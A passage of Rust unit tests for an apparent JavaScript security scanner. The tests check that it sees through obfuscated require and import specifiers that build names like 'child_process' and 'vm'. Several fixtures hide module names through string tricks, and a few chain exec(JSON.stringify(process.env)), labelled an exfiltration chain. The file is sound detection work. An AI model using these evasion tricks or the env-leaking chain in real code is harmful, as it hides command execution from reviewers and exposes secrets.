            "require(['x', 'lib'].reverse().join('/'));",
            "require(['m', 'v'].toSorted().join(''));",
            "const a = ['./b', './a'];\na.sort();\nrequire(a.join(''));",
            "const a = ['process', 'child_'];\na.sort((x, y) => x.length - y.length);\nrequire(a.join(''));",
            "const a = ['process', 'child_'];\nconst b = ['x'];\nb.reverse();\nrequire(a.join(''));",
            "const a = ['process', 'child_'];\na.toReversed();\nrequire(a.join(''));",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a name assigned again before the use (a `for … of` loop's
    /// variable, a parameter, a name a parameter's pattern binds) may hold
    /// its first value and every value assigned.
    #[test]
    fn slo_02_names_assigned_again_before_the_use_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "for (let x of ['process']) { x = 'child_' + x; require(x); }",
                RuleId::ChildProcess,
            ),
            (
                "for (let x of ['v']) { x += 'm'; require(x); }",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function f(m) { m = 'child_' + m; return require(m); }\nf('process');",
                RuleId::ChildProcess,
            ),
            (
                "const f = (m) => { m += '_process'; return require(m); };\nf('child');",
                RuleId::ChildProcess,
            ),
            (
                "function f({ m }) { m = 'v' + m; return require(m); }\nf({ m: 'm' });",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "['et'].forEach((m) => { m = 'n' + m; require(m); });",
                RuleId::ForbiddenBuiltin,
            ),
            // Straight-line assignments one after the other.
            (
                "function f(m) { m = 'v' + m; m += ''; return require(m); }\nf('m');",
                RuleId::ForbiddenBuiltin,
            ),
            // An assignment in a branch may not run: the argument stays.
            (
                "function f(m, c) { if (c) { m = './x'; } return require(m); }\nf('vm', 1);",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // Local paths built the same way, a fallback, values not known, a
        // builtin's name a straight-line assignment replaces before the read.
        let harmless = [
            "for (let x of ['a', 'b']) { x = './' + x; require(x); }",
            "function f(m) { m = './plugins/' + m; return require(m); }\nf('child_process');",
            "for (let x of ['vm']) { x = './lib/' + x; require(x); }",
            "let s = 'vm';\ns = './x';\nrequire(s);",
            "function f(m) { m = m || './default'; return require(m); }\nf('./a');",
            "for (let p of process.argv) { p = 'child_' + p; require(p); }",
            "function f(m) { m = 'child_' + m; return require(m); }\nf(process.argv[2]);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a string a `for … of` loop builds by adding its variable
    /// (`s += p`, `s = s + p`) is, after the loop, the initializer followed
    /// by every element in order.
    #[test]
    fn slo_02_strings_a_loop_builds_from_its_elements_are_specifiers() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "const parts = ['pro', 'cess'];\nlet s = 'child_';\nfor (const p of parts) { s += p; }\nrequire(s);",
                RuleId::ChildProcess,
            ),
            (
                "let s = '';\nfor (const p of ['v', 'm']) s = s + p;\nrequire(s);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = ['n'];\na.push('et');\nlet s = '';\nfor (const p of a) { s += p; }\nrequire(s);",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // Local path parts, a loop over something else, a variable added
        // another way.
        let harmless = [
            "let s = '.';\nfor (const p of ['/lib', '/x']) s += p;\nrequire(s);",
            "let s = '';\nfor (const p of process.argv) s += p;\nrequire(s);",
            "let s = './';\nfor (const p of ['v', 'm']) s = p + s;\nrequire(s);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: `fill` puts its value at every position (of an array bound
    /// to a name, or of `new Array(n)`), `copyWithin` moves the positions.
    #[test]
    fn slo_02_arrays_filled_or_copied_within_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "const a = ['./x', './y'];\na.fill('child_' + 'process');\nrequire(a[1]);",
                RuleId::ChildProcess,
            ),
            (
                "const a = new Array(2).fill('v' + 'm');\nrequire(a[1]);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = Array(1).fill('vm');\nfor (const m of a) require(m);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = ['vm', './y', './z'];\na.copyWithin(2, 0);\nrequire(a[2]);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = ['./x'].fill('vm');\nrequire(a[0]);",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // Local paths filled, a number, another array filled, a local
        // `Array`, harmless positions moved.
        let harmless = [
            "const a = new Array(3).fill('./p');\nrequire(a[0]);",
            "const a = ['./x'];\na.fill(0);\nrequire(a[0]);",
            "const a = ['./x'];\nconst b = ['./y'];\nb.fill('vm');\nrequire(a[0]);",
            "function Array(n) { return []; }\nconst a = new Array(1).fill('vm');\nrequire(a[0]);",
            "const a = ['./x', './y'];\na.copyWithin(0, 1);\nrequire(a[0]);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a member of a parameter (or a name a parameter's object
    /// pattern binds) is each string the function's calls pass there in an
    /// object literal or a name bound to one.
    #[test]
    fn slo_02_members_of_object_arguments_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "function f(o) { return require(o.m); }\nf({ m: 'child_' + 'process' });",
                RuleId::ChildProcess,
            ),
            (
                "const g = (c) => require(c.name);\ng({ name: 'v' + 'm' });",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function f({ mod }) { return require(mod); }\nconst o = { mod: 'vm' };\nf(o);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function f(a, { k: m }) { return require(m); }\nf(1, { k: './x' });\nf(2, { k: 'vm' });",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "(function (o) { require(o['m']); })({ m: 'vm' });",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // Option objects naming local modules, another member, a parameter
        // assigned again, a spread call, a default, a computed pattern key.
        let harmless = [
            "function f(o) { return require(o.path); }\nf({ path: './plugin' });",
            "function f(o) { return require(o.m); }\nf({ n: 'vm' });",
            "function f(o) { o = { m: './a' }; return require(o.m); }\nf({ m: 'vm' });",
            "function f(o) { return require(o.m); }\nconst a = [{ m: 'vm' }];\nf(...a);",
            "function f({ m } = { m: 'vm' }) { return require(m); }\nf({ m: './b' });",
            "const k = 'm';\nfunction f({ [k]: m }) { return require(m); }\nf({ m: 'vm' });",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: arrays sliced (`slice` with number literals), copied by
    /// `Array.from(a)` or spread into a literal (`[...a]`) keep their
    /// positions: a join or an element read gives their strings.
    #[test]
    fn slo_02_arrays_sliced_or_copied_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "require(['x', 'child_', 'process'].concat([]).slice(1).join(''));",
                RuleId::ChildProcess,
            ),
            (
                "require(Array.from(['child_', 'process']).join(''));",
                RuleId::ChildProcess,
            ),
            (
                "const a = ['v', 'm'];\nrequire([...a].join(''));",
                RuleId::ForbiddenBuiltin,
            ),
            ("require(['vm', 'x'].slice(0, -1)[0]);", RuleId::ForbiddenBuiltin),
            (
                "const a = ['./', 'v', 'm'];\nrequire(Array.from(a).slice(-2).join(''));",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // A local path sliced, a slice naming nothing, a mapping function,
        // a reordered array sliced, a local `Array`, another position.
        let harmless = [
            "require(['x', './lib', '/a'].slice(1).join(''));",
            "require(['v', 'm', 'x'].slice(1).join(''));",
            "require(Array.from(['v', 'm'], (s) => s + '/').join(''));",
            "const a = ['v', 'm'];\na.reverse();\nrequire(a.slice(0).join(''));",
            "const Array = { from: () => ['./a'] };\nrequire(Array.from(['v', 'm']).join(''));",
            "require(['vm', 'x'].slice(1, 2)[0]);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a string spread into an array literal (`[...'vm']`), copied
    /// by `Array.from('vm')` or split by `split('')` gives one position for
    /// each character: a join gives the string back.
    #[test]
    fn slo_02_strings_spread_into_characters_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            ("require([...'vm'].join(''));", RuleId::ForbiddenBuiltin),
            ("require([...'child_', ...'process'].join(''));", RuleId::ChildProcess),
            ("require(Array.from('vm').join(''));", RuleId::ForbiddenBuiltin),
            ("require('vm'.split('').join(''));", RuleId::ForbiddenBuiltin),
            (
                "const s = 'xvm';\nrequire([...s].slice(1).join(''));",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // A local path spread, a separator between the characters, a
        // mapping function, a split on another separator, a local `Array`.
        let harmless = [
            "require([...'./lib'].join(''));",
            "require([...'vm'].join('/'));",
            "require(Array.from('vm', (c) => c + '/').join(''));",
            "require('v-m'.split('-').join('/'));",
            "const Array = { from: () => ['./a'] };\nrequire(Array.from('vm').join(''));",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a member appended to (`o.m += …`), assigned by a bare name
    /// inside `with (o)` where `o` holds it, or assigned through another
    /// name bound to the same literal gives its strings.
    #[test]
    fn slo_02_members_appended_or_assigned_through_with_or_aliases_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "const o = { m: 'child_' };\no.m += 'process';\nrequire(o.m);",
                RuleId::ChildProcess,
            ),
            (
                "const o = { m: './x' };\nwith (o) { m = 'vm'; }\nrequire(o.m);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { m: './x' };\nwith (o) { m = 'vm'; require(m); }",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { m: './x' };\nconst p = o;\np.m = 'vm';\nrequire(o.m);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { m: 'child_' };\nconst p = o;\nwith (p) { m += 'process'; }\nrequire(o.m);",
                RuleId::ChildProcess,
            ),
        ];
        // A local path appended to, another member appended to, a `with`
        // object not holding the name, a name assigned again, another
        // object, a value not known.
        let harmless = [
            "const o = { m: './a' };\no.m += '/b';\nrequire(o.m);",
            "const o = { m: 'child_' };\no.n += 'process';\nrequire(o.m);",
            "const o = { n: './x' };\nwith (o) { m = 'vm'; }\nrequire(o.m);",
            "const o = { m: './x' };\nlet p = o;\np = {};\np.m = 'vm';\nrequire(o.m);",
            "const o = { m: './x' };\nconst q = { m: './y' };\nconst p = q;\np.m = 'vm';\nrequire(o.m);",
            "const o = { m: 'v' };\no.m += f();\nrequire(o.m);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a method of an argument literal called through a plain
    /// parameter (`o.m()`: a method, an arrow or function member, a
    /// literal bound to a name) returns its strings; a getter read as
    /// `o.m` gives what it returns.
    #[test]
    fn slo_02_methods_of_argument_literals_return_their_strings() {
        // The method calls scanned as a bare dynamic-require before (the
        // getter was already followed).
        let found = [
            (
                "function f(o) { return require(o.m()); }\nf({ m() { return 'child_process'; } });",
                RuleId::ChildProcess,
            ),
            (
                "const g = (o) => require(o.m());\ng({ m: () => 'v' + 'm' });",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function f(o) { return require(o['m']()); }\nconst opts = { m: function () { return 'vm'; } };\nf(opts);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function f(o) { return require(o.m()); }\nf({ k: 'vm', m() { return this.k; } });",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function h(o) { return require(o.m); }\nh({ get m() { return 'vm'; } });",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // A method naming a local module, another method, a parameter
        // assigned again, a spread call, a method returning a value not
        // known.
        let harmless = [
            "function f(o) { return require(o.m()); }\nf({ m() { return './plugin'; } });",
            "function f(o) { return require(o.m()); }\nf({ n() { return 'vm'; } });",
            "function f(o) { o = { m: () => './a' }; return require(o.m()); }\nf({ m: () => 'vm' });",
            "function f(o) { return require(o.m()); }\nconst a = [{ m: () => 'vm' }];\nf(...a);",
            "function f(o) { return require(o.m()); }\nf({ m: () => process.argv[2] });",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a nested member of a plain parameter (`o.inner.name`,
    /// `o.inner.m()`, `o['inner']['m']()`) is that member of each
    /// argument's member: its string, or what its method returns.
    #[test]
    fn slo_02_nested_members_of_parameters_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "function f(o) { return require(o.inner.m()); }\nf({ inner: { m() { return 'vm'; } } });",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function g(o) { return require(o.inner.name); }\ng({ inner: { name: 'child_process' } });",
                RuleId::ChildProcess,
            ),
            (
                "const h = (o) => require(o.inner.m());\nh({ inner: { m: () => 'v' + 'm' } });",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function k(o) { return require(o['inner']['m']()); }\nconst c = { m: function () { return 'vm'; } };\nk({ inner: c });",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // A nested member naming a local module, another nested member, a
        // parameter assigned again, an inner value not known, a spread call.
        let harmless = [
            "function f(o) { return require(o.inner.m()); }\nf({ inner: { m() { return './plugin'; } } });",
            "function g(o) { return require(o.inner.name); }\ng({ inner: { other: 'vm' } });",
            "function g(o) { o = { inner: { name: './a' } }; return require(o.inner.name); }\ng({ inner: { name: 'vm' } });",
            "function g(o) { return require(o.inner.name); }\ng({ inner: load() });",
            "function g(o) { return require(o.inner.name); }\nconst a = [{ inner: { name: 'vm' } }];\ng(...a);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: the array or object a call returns (one function or method
    /// with one `return`: an argument literal's method, a function bound to
    /// a name) gives its strings to a join, an element read or a member read.
    #[test]
    fn slo_02_arrays_and_objects_returned_by_methods_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "function f(o) { return require(o.parts().join('')); }\nf({ parts() { return ['child_', 'process']; } });",
                RuleId::ChildProcess,
            ),
            (
                "function g(o) { return require(o.cfg().name); }\ng({ cfg() { return { name: 'vm' }; } });",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function p(o) { return require(o.parts()[1]); }\np({ parts: () => ['./x', 'vm'] });",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function mk() { return { name: 'vm' }; }\nrequire(mk().name);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function g(o) { const c = o.cfg(); return require(c.name); }\ng({ cfg: () => ({ name: 'child_process' }) });",
                RuleId::ChildProcess,
            ),
        ];
        // A returned array naming a local path, another member, another
        // position, a method with two returns, a returned value not known.
        let harmless = [
            "function f(o) { return require(o.parts().join('/')); }\nf({ parts() { return ['.', 'plugin']; } });",
            "function g(o) { return require(o.cfg().name); }\ng({ cfg() { return { other: 'vm' }; } });",
            "function p(o) { return require(o.parts()[0]); }\np({ parts: () => ['./x', 'vm'] });",
            "function g(o) { return require(o.cfg().name); }\ng({ cfg(x) { if (x) return { name: './a' }; return { name: './b' }; } });",
            "function f(o) { return require(o.parts().join('')); }\nf({ parts: () => process.argv.slice(2) });",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a call whose callees have several `return`s of arrays or
    /// objects gives, joined, as a member or as an element, each value
    /// returned (every one a candidate).
    #[test]
    fn slo_02_arrays_and_objects_of_several_returns_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "function f(k) { if (k) return ['child_', 'process']; return ['f', 's']; }\nrequire(f(1).join(''));",
                RuleId::ChildProcess,
            ),
            (
                "const g = (k) => { if (k) return { n: 'vm' }; return { n: './a' }; };\nrequire(g(1).n);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { m(k) { if (k) return ['./x', 'vm']; return ['./y', './z']; } };\nrequire(o.m(1)[1]);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function p(o) { return require(o.parts(1).join('')); }\np({ parts(k) { if (k) return ['child_', 'process']; return []; } });",
                RuleId::ChildProcess,
            ),
        ];
        // Every returned value joined into a local path, the member only
        // another branch's object holds, another position, a value that
        // does not fold beside a local path.
        let harmless = [
            "function f(k) { if (k) return ['.', 'a']; return ['.', 'b']; }\nrequire(f(1).join('/'));",
            "const g = (k) => { if (k) return { n: './a' }; return { m: 'vm' }; };\nrequire(g(1).n);",
            "const o = { m(k) { if (k) return ['vm', './x']; return ['fs', './y']; } };\nrequire(o.m(1)[1]);",
            "function h(k) { if (k) return process.argv; return ['./a']; }\nrequire(h(1)[0]);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a name a declaration's object or array pattern binds is that
    /// member (with what the file assigns to it) or that element of the
    /// initializer.
    #[test]
    fn slo_02_destructured_names_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            ("const { k: n } = { k: 'vm' };\nrequire(n);", RuleId::ForbiddenBuiltin),
            // A member assigned after the literal; elements of an array
            // literal; a pattern over a parameter.
            (
                "const o = {};\no.m = 'vm';\nconst { m } = o;\nrequire(m);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const [a, b] = ['child_', 'process'];\nrequire(a + b);",
                RuleId::ChildProcess,
            ),
            (
                "function f(o) { const { mod } = o; return require(mod); }\nf({ mod: 'child_process' });",
                RuleId::ChildProcess,
            ),
        ];
        // A member naming a local module, another member, a default, a
        // name assigned again, a rest element, a computed key.
        let harmless = [
            "const o = {};\no.m = './plugin';\nconst { m } = o;\nrequire(m);",
            "const { n } = { k: 'vm' };\nrequire(n);",
            "const { n = './a' } = { k: 'vm' };\nrequire(n);",
            "let [a] = ['vm'];\na = './b';\nrequire(a);",
            "const [...r] = ['vm'];\nrequire(r[1]);",
            "const { [key()]: n } = { k: 'vm' };\nrequire(n);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a name a pattern binds with a default, inside a nested
    /// pattern, as a rest element, under a constant computed key, or that
    /// an assignment's pattern assigns, is what the value gives it there
    /// (or its default).
    #[test]
    fn slo_02_defaults_nesting_rest_and_assigned_patterns_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            ("const { m = 'vm' } = {};\nrequire(m);", RuleId::ForbiddenBuiltin),
            ("const [a = 'child_process'] = [];\nrequire(a);", RuleId::ChildProcess),
            (
                "const cfg = { o: { m: 'vm' } };\nconst { o: { m } } = cfg;\nrequire(m);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const [, ...r] = ['x', 'vm'];\nrequire(r[0]);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const { ['m']: n } = { m: 'vm' };\nrequire(n);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { m: 'vm' };\nlet m;\n({ m } = o);\nrequire(m);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "let a, b;\n[a, b] = ['child_', 'process'];\nrequire(a + b);",
                RuleId::ChildProcess,
            ),
            (
                "const [[, x]] = [['./a', 'child_process']];\nrequire(x);",
                RuleId::ChildProcess,
            ),
        ];
        // A default naming a local module, another nested member, the rest
        // starting after the module, a computed key naming another member,
        // assigned patterns taking another member or element, a rest
        // element past the end.
        let harmless = [
            "const { m = './a' } = {};\nrequire(m);",
            "const [a = './b'] = [];\nrequire(a);",
            "const { o: { n } } = { o: { m: 'vm' } };\nrequire(n);",
            "const [, ...r] = ['vm', './x'];\nrequire(r[0]);",
            "const { ['n']: k } = { m: 'vm' };\nrequire(k);",
            "let m;\n({ n: m } = { m: 'vm', n: './p' });\nrequire(m);",
            "let a, b;\n[b, a] = ['./p', 'vm'];\nrequire(b);",
            "const [, ...r] = ['x', 'vm'];\nrequire(r[1]);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: an array whose elements `shift`, `pop`, `reverse`, `sort` or
    /// `a.length = n` move gives any element's string to an element read;
    /// `a.pop()` and `a.shift()` give an element; a loop over `a.reverse()`
    /// each one.
    #[test]
    fn slo_02_arrays_shifted_popped_reordered_and_cut_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "const a = ['./x', 'child_' + 'process'];\na.reverse();\nrequire(a[0]);",
                RuleId::ChildProcess,
            ),
            (
                "const a = ['./x', 'child_' + 'process'];\na.sort();\nrequire(a[0]).exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
            (
                "const a = ['./x', 'v' + 'm'];\na.shift();\nrequire(a[0]);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = ['./x', 'v' + 'm'];\nrequire(a.pop());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = ['v' + 'm', './x'];\nrequire(a.shift());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = ['./x', 'd' + 'ns'];\nfor (const m of a.reverse()) require(m);",
                RuleId::NetworkBuiltin,
            ),
            (
                "const a = ['./x'];\na.length = 0;\na.push('v' + 'm');\nrequire(a[0]);",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // Harmless elements, another array moved or taken from, an array
        // not moved.
        let harmless = [
            "const a = ['./x', './y'];\na.reverse();\nrequire(a[0]);",
            "const a = ['./x', 'vm'];\nconst b = ['./z'];\nb.reverse();\nrequire(a[0]);",
            "const a = ['./x', 'vm'];\nrequire(b.pop());",
            "const a = ['./x', './y'];\nrequire(a.shift());",
            "const a = ['./a', './b'];\na.length = 0;\nrequire(a[0]);",
            "const a = ['./x', 'vm'];\nconst b = ['./y'];\nb.length = 0;\nrequire(a[0]);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a `require` whose specifier chooses between constants loads
    /// every module its choices name, every combination of two independent
    /// choices too (`(a ? 'x' : 'chi') + (b ? 'ld_process' : 'y')`), and
    /// its value is each tracked one, one per world.
    #[test]
    fn slo_02_a_require_of_a_choice_of_constants_loads_each_module() {
        // Each scanned without its rule before: only dynamic-require.
        let found = [
            ("require(c ? 'os' : 'child_process');", RuleId::ChildProcess),
            (
                "require((a ? 'x' : 'chi') + (b ? 'ld_process' : 'y'));",
                RuleId::ChildProcess,
            ),
            ("require(`${a ? 'v' : 'q'}${b ? 'm' : 'z'}`);", RuleId::ForbiddenBuiltin),
            (
                "const t = a ? 'ht' : 'x';\nrequire(b ? 'os' : 'child_process').exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
        ];
        for &(src, rule) in &found {
            assert!(rules(src).contains(&rule), "{src:?} lacks {rule:?}: {:?}", rules(src));
        }
        // Harmless choices stay as before: a dynamic require, no module
        // finding; more combinations than the bound fold to nothing.
        let harmless = [
            "require(c ? './posix' : './win');",
            "require((a ? './a' : './b') + (b ? '.js' : '.cjs'));",
            "require((a ? 'c' : 'd') + (b ? 'h' : 'i') + (c ? 'i' : 'j') + (d ? 'l' : 'k') + 'd_process');",
        ];
        for src in harmless {
            assert_eq!(rules(src), vec![RuleId::DynamicRequire], "{src:?}");
        }
    }

    /// Asserts that each of `found` has its rule and that each of
    /// `harmless` is a bare dynamic require (no module finding).
    fn assert_specifiers(found: &[(&str, RuleId)], harmless: &[&str]) {
        assert_found_else_bare(found, harmless, RuleId::DynamicRequire);
    }

    /// Each `found` source reports its rule; each `harmless` one reports
    /// `bare` alone.
    fn assert_found_else_bare(found: &[(&str, RuleId)], harmless: &[&str], bare: RuleId) {
        for &(src, rule) in found {
            assert!(rules(src).contains(&rule), "{src:?} lacks {rule:?}: {:?}", rules(src));
        }
        for src in harmless {
            assert_eq!(rules(src), vec![bare], "{src:?}");
        }
    }

    /// SLO-02: a string returned by a function, an arrow or a method (of an
    /// object literal, a class instance, a class) used as a `require`
    /// specifier loads the module it names.
    #[test]
    fn slo_02_a_string_returned_by_a_function_or_method_is_a_specifier() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "function f() { return 'child_process'; }
require(f());",
                RuleId::ChildProcess,
            ),
            (
                "const g = () => 'chi' + 'ld_process';
require(g());",
                RuleId::ChildProcess,
            ),
            (
                "const g = function (x) { if (x) return './a'; return 'v' + 'm'; };
require(g(1));",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class K { m() { return 'child_process'; } }
require(new K().m());",
                RuleId::ChildProcess,
            ),
            (
                "class K { m() { return 'vm'; } }
const k = new K();
require(k.m());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class K { static m() { return 'net'; } }
require(K.m());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { m() { return 'child_process'; } };
require(o.m());",
                RuleId::ChildProcess,
            ),
            (
                "const o = {};
o.m = () => 'vm';
require(o.m());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function f() { return 'child_process'; }
require(f()).exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
        ];
        // Harmless returns, parameters, other method names and an instance
        // method called statically stay a bare dynamic require.
        let harmless = [
            "function f() { return './local'; }
require(f());",
            "function f(n) { return n; }
require(f('x'));",
            "class K { m() { return 'child_process'; } other() { return './a'; } }
require(new K().other());",
            "class K { m() { return 'child_process'; } }
require(K.m());",
            "class K { static m() { return 'child_process'; } }
require(new K().m());",
            "let f = () => 'child_process';
f = () => './x';
require(f());",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a string member of an object literal (static, computed,
    /// nested) and a `const` bound to a conditional are specifiers.
    #[test]
    fn slo_02_string_members_and_a_const_conditional_are_specifiers() {
        let found = [
            (
                "const o = { a: 'child_process' };
require(o.a);",
                RuleId::ChildProcess,
            ),
            (
                "const o = { a: 'child_process' };
require(o['a']);",
                RuleId::ChildProcess,
            ),
            (
                "const o = { x: { y: 'vm' } };
require(o.x.y);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const s = c ? 'child_process' : 'fs';
require(s);",
                RuleId::ChildProcess,
            ),
            (
                "const s = c ? 'fs' : 'net';
require(s);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const s = name || 'child_process';
require(s);",
                RuleId::ChildProcess,
            ),
        ];
        let harmless = [
            "const o = { a: './a', b: 'child_process' };
require(o.a);",
            "const o = { x: { y: './y' }, y: 'vm' };
require(o.x.y);",
            "const s = c ? './posix' : './win';
require(s);",
            "const o = { a: 'child_process' };
require(o[k]);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: choices bound to different names combine in one specifier
    /// (every combination, at most 8).
    #[test]
    fn slo_02_choices_bound_to_names_combine_in_a_specifier() {
        let found = [
            (
                "const a = c ? 'chi' : 'x';
const b = d ? 'ld_process' : 'y';
require(a + b);",
                RuleId::ChildProcess,
            ),
            (
                "const a = c ? 'q' : 'v';
const b = d ? 'z' : 'm';
require(`${a}${b}`);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = c ? 'chi' : 'x';
function tail() { return d ? 'ld_process' : 'y'; }
require(a + tail());",
                RuleId::ChildProcess,
            ),
        ];
        let harmless = [
            "const a = c ? './a' : './b';
const b = d ? '.js' : '.cjs';
require(a + b);",
            "const a = c ? 'c' : 'd';
const b = d ? 'h' : 'i';
const e = f ? 'i' : 'j';
const g = h ? 'l' : 'k';
require(a + b + e + g + 'd_process');",
            "const a = c ? 'chi' : 'x';
require(a + suffix);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: methods assigned to a constructor's prototype, and methods
    /// inherited through `extends`, return their strings to a specifier.
    #[test]
    fn slo_02_prototype_and_inherited_methods_return_specifiers() {
        let found = [
            (
                "function C() {}
C.prototype.m = function () { return 'child_process'; };
require(new C().m());",
                RuleId::ChildProcess,
            ),
            (
                "function C() {}
C.prototype = { m() { return 'vm'; } };
const c = new C();
require(c.m());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class C { m() { return 'child_process'; } }
class D extends C {}
require(new D().m());",
                RuleId::ChildProcess,
            ),
            (
                "function C() {}
C.prototype.m = () => 'vm';
class D extends C {}
class E extends D {}
require(new E().m());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class C { static m() { return 'net'; } }
class D extends C {}
require(D.m());",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // An override shadows the inherited method; another name or the
        // prototype method called statically stays a bare dynamic require.
        let harmless = [
            "class C { m() { return 'child_process'; } }
class D extends C { m() { return './d'; } }
require(new D().m());",
            "function C() {}
C.prototype.m = function () { return 'child_process'; };
require(new C().n());",
            "function C() {}
C.prototype.m = function () { return 'child_process'; };
require(C.m());",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a dynamic `import()` specifier is followed as a `require`
    /// one is: choices of constants, returned strings, string members.
    #[test]
    fn slo_02_an_import_specifier_is_followed_like_a_require_one() {
        // Each scanned as a bare dynamic-import before.
        let found = [
            (
                "function f() { return 'child_process'; }
import(f());",
                RuleId::ChildProcess,
            ),
            (
                "const o = { a: 'v' + 'm' };
import(o.a);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "async function g(c) { return await import(c ? 'child_process' : 'fs'); }",
                RuleId::ChildProcess,
            ),
            (
                "class K { static m() { return 'net'; } }
import(K.m());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function f() { return 'child_process'; }
async function g() { (await import(f())).exec(JSON.stringify(process.env)); }",
                RuleId::ExfiltrationChain,
            ),
        ];
        let harmless = [
            "function f() { return './local.js'; }
import(f());",
            "const o = { a: './a.js', b: 'child_process' };
import(o.a);",
            "async function g(c) { return await import(c ? './posix.js' : './win.js'); }",
            "import(name);",
        ];
        assert_found_else_bare(&found, &harmless, RuleId::DynamicImport);
    }

    /// SLO-02: a parameter of a named function is each string its calls in
    /// the file pass; a getter returns its strings (of an object literal, of
    /// a class's instances, of a class).
    #[test]
    fn slo_02_parameters_and_getters_give_their_strings() {
        let found = [
            (
                "function load(n) { return require(n); }
load('child_process');",
                RuleId::ChildProcess,
            ),
            (
                "const load = (a, n) => require(n);
load(1, './x');
load(2, 'v' + 'm');",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function load(n) { return require(n); }
load('child_process').exec(JSON.stringify(process.env));",
                RuleId::ChildProcess,
            ),
            (
                "const o = { get m() { return 'child_process'; } };
require(o.m);",
                RuleId::ChildProcess,
            ),
            (
                "class K { get m() { return 'vm'; } }
require(new K().m);",
